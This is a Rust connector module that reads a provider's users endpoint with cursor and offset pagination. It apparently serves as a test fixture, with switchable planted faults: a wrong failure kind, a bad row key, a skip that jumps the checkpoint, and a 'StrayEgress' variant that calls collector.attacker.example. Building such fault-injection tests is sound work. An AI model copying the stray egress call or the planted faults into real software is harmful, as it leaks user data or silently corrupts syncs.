//! Reading `/api/v2/users` page by page, and what the provider's answers mean.

use serde_json::Value;
use sluice_connector_sdk::*;

use crate::settings::{BASE_URL, PAGE_SIZE};
use crate::{Variant, variant};

/// The base URL and page size of a session (validated by `configure` before any call).
fn endpoint(session: &Session) -> (String, u32) {
    let base = session
        .settings
        .value(BASE_URL)
        .unwrap_or_default()
        .trim_end_matches('/')
        .to_string();
    let page_size = session
        .settings
        .value(PAGE_SIZE)
        .and_then(|v| v.parse().ok())
        .unwrap_or(100);
    (base, page_size)
}

/// GETs `url` and parses a successful JSON answer; other answers become failures by status.
fn get_json(host: &mut dyn Host, url: String) -> Result<Value, Failure> {
    let response = host
        .send(Request::get(url.clone()))
        .map_err(|e| Failure::new(FailureKind::Unreachable, e.to_string()))?;
    if response.status != 200 {
        return Err(failure_of(&response, &url));
    }
    serde_json::from_slice(&response.body).map_err(|e| {
        Failure::new(
            FailureKind::Unknown,
            format!("{url} answered JSON we cannot read: {e}"),
        )
    })
}

/// The failure a refused request means.
fn failure_of(response: &Response, url: &str) -> Failure {
    let kind = match response.status {
        401 if variant() == Variant::WrongFailureKind => FailureKind::Unknown,
        401 => FailureKind::ReauthorizationRequired,
        403 => FailureKind::PermissionDenied,
        429 => FailureKind::RateLimited,
        _ => FailureKind::Unknown,
    };
    let mut failure = Failure::new(kind, format!("{url} answered {}", response.status));
    failure.retry_after_s = response.header("retry-after").and_then(|v| v.parse().ok());
    failure
}

/// The first user, for Test Connection.
pub fn first_user(host: &mut dyn Host, session: &Session) -> Result<String, Failure> {
    let (base, _) = endpoint(session);
    let body = get_json(host, format!("{base}/api/v2/users?page%5Bsize%5D=1"))?;
    let count = body["users"].as_array().map_or(0, Vec::len);
    Ok(format!("read {count} user"))
}

/// The rows of a list answer's users.
fn rows(body: &Value) -> Result<Vec<Row>, Failure> {
    let users = body["users"].as_array().ok_or_else(|| {
        Failure::new(
            FailureKind::Unknown,
            "the users list answer has no `users` array",
        )
    })?;
    Ok(users.iter().map(row).collect())
}

fn row(user: &Value) -> Row {
    let id = user["id"].to_string();
    let key = match variant() {
        Variant::BadKey => format!("user-{id}"),
        _ => id,
    };
    Row {
        key,
        op: Operation::Upsert,
        cursor: user["updated_at"].as_str().unwrap_or_default().to_string(),
        json: user.to_string().into_bytes(),
    }
}

/// Users per request: the setting, within the host's cap.
fn per_page(request: &PullRequest, page_size: u32) -> u32 {
    page_size.min(request.max_records).max(1)
}

/// Cursor pagination: the checkpoint is the provider's `after_cursor`, which names the last
/// user returned whatever the page size.
pub fn by_cursor(
    host: &mut dyn Host,
    session: &Session,
    request: &PullRequest,
) -> Result<Page, Failure> {
    let (base, page_size) = endpoint(session);
    let mut url = format!(
        "{base}/api/v2/users?page%5Bsize%5D={}",
        per_page(request, page_size)
    );
    if let Some(cursor) = &request.checkpoint {
        url.push_str("&page%5Bafter%5D=");
        url.push_str(&encode(cursor));
    }
    let body = match get_json(host, url) {
        Err(failure)
            if failure.kind == FailureKind::PermissionDenied
                && variant() == Variant::SkipMovesCheckpoint =>
        {
            // The fault under test: a stream it cannot read is skipped as if it had ended.
            return Ok(Page {
                rows: Vec::new(),
                checkpoint: Some("past-everything".into()),
                status: StreamStatus::Skipped(failure.message),
                api_usage: None,
                api_calls: 1,
            });
        }
        other => other?,
    };
    if variant() == Variant::StrayEgress {
        // The host refuses it before any lookup; the page carries on as if nothing happened.
        let _ = host.send(Request::get("https://collector.attacker.example/users"));
    }
    let rows = rows(&body)?;
    let has_more = body["meta"]["has_more"].as_bool().unwrap_or(false);
    let checkpoint = body["meta"]["after_cursor"]
        .as_str()
        .map(str::to_string)
        .or_else(|| request.checkpoint.clone());
    Ok(page(rows, checkpoint, has_more))
}

/// Offset pagination: the checkpoint is the next page's number, which names other users once
/// the page size differs from the one it was computed with.
pub fn by_offset(
    host: &mut dyn Host,
    session: &Session,
    request: &PullRequest,
) -> Result<Page, Failure> {
    let (base, page_size) = endpoint(session);
    let number: u64 = match &request.checkpoint {
        Some(text) => text
            .strip_prefix("page:")
            .and_then(|n| n.parse().ok())
            .ok_or_else(|| {
                Failure::new(
                    FailureKind::Unknown,
                    format!("checkpoint {text:?} is not page:N"),
                )
            })?,
        None => 1,
    };
    let url = format!(
        "{base}/api/v2/users?page={number}&per_page={}",
        per_page(request, page_size)
    );
    let body = get_json(host, url)?;
    let rows = rows(&body)?;
    let has_more = !body["next_page"].is_null();
    Ok(page(rows, Some(format!("page:{}", number + 1)), has_more))
}

fn page(rows: Vec<Row>, checkpoint: Option<String>, has_more: bool) -> Page {
    Page {
        rows,
        checkpoint,
        status: if has_more {
            StreamStatus::Partial
        } else {
            StreamStatus::Complete
        },
        api_usage: None,
        api_calls: 1,
    }
}

/// Percent-encodes a cursor for a query string.
fn encode(text: &str) -> String {
    url::form_urlencoded::byte_serialize(text.as_bytes()).collect()
}
